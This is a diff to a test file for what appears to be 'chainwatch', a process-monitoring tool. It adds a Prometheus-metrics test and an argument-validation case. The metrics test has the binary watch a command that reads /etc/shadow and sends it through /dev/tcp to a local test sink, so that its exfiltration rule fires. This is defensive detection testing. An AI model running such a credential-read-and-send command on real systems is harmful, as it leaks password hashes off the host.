@@ -1,4 +1,5 @@
-import { spawnSync } from 'node:child_process';
+import { spawn, spawnSync } from 'node:child_process';
+import { createServer, type AddressInfo } from 'node:net';
 import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -7,6 +8,7 @@ import { Event } from '../schema/event.js';
 import { TraceHeader } from '../schema/trace-header.js';
 import { tcpSink } from '../testing/live-harness.js';
 import { SmallDisk } from '../testing/small-disk.js';
+import { samples, scrape } from '../testing/prometheus.js';
 
 const CLI = join(import.meta.dirname, '../../dist/src/cli/main.js');
 let sink: Awaited<ReturnType<typeof tcpSink>>;
@@ -88,6 +90,30 @@ describe('chainwatch watch (the real binary)', () => {
     }
   });
 
+  it('--metrics: a Prometheus scrape while watching shows the events, the finding and the state; the endpoint goes with the run', async () => {
+    const free = createServer();
+    await new Promise<void>((r) => free.listen(0, '127.0.0.1', () => r()));
+    const port = (free.address() as AddressInfo).port;
+    await new Promise((r) => free.close(r));
+    const child = spawn(process.execPath, [CLI, 'watch', '--findings', '-', '--no-audit', '--metrics', `127.0.0.1:${port}`, '--', 'bash', '-c', `cat /etc/shadow > /dev/tcp/127.0.0.2/${sink.port}; sleep 4`], { stdio: ['ignore', 'pipe', 'pipe'] });
+    let stderr = '';
+    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
+    const exited = new Promise<number | null>((r) => child.on('exit', (code) => r(code)));
+    const key = 'chainwatch_findings_total{rule="exfil.read-then-transmit",severity="high",category="exfiltration"}';
+    let m = new Map<string, number>();
+    for (let i = 0; i < 100 && m.get(key) !== 1; i++) {
+      await new Promise((r) => setTimeout(r, 200));
+      m = await scrape(port).then((r) => samples(r.body), () => new Map<string, number>());
+    }
+    expect(m.get(key), stderr).toBe(1);
+    expect(m.get('chainwatch_events_total')).toBeGreaterThan(10);
+    expect(m.get('chainwatch_processes')).toBeGreaterThan(0);
+    expect(m.get('chainwatch_probe_malformed_lines_total')).toBe(0);
+    expect(m.get('chainwatch_events_lost_total{source="kernel"}') ?? 0).toBe(0);
+    expect(await exited, stderr).toBe(0);
+    await expect(scrape(port)).rejects.toThrow();
+  }, 90_000);
+
   it('--record-rotate: segments of about the size asked, each starting with the state; replayed in order they give what the watch found live, a later one alone knows every process', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'cw-cli-rotate-'));
     const trace = join(dir, 'host.trace.jsonl.gz');
@@ -131,6 +157,7 @@ c.close()`;
       [['watch', '--duration', 'soon'], 'must be a positive number of seconds'],
       [['watch', '--record', '/tmp/x.jsonl', '--record-rotate', '10K'], '--record-rotate must be a size of at least 1M'],
       [['watch', '--record-keep', '3'], '--record-rotate and --record-keep need --record FILE'],
+      [['watch', '--metrics', '9464'], '--metrics 9464: expected HOST:PORT'],
       // outputs that cannot be written, found after the command was started and held: it is killed, the run ends at once
       [['watch', '--record', '/nonexistent/t.jsonl', '--', 'sleep', '600'], '/nonexistent/t.jsonl: cannot write the recording (--record) here: ENOENT'],
       [['watch', '--findings', '/etc/hostname/f', '--', 'sleep', '600'], '/etc/hostname/f: cannot write the findings (--findings) here: ENOTDIR'],
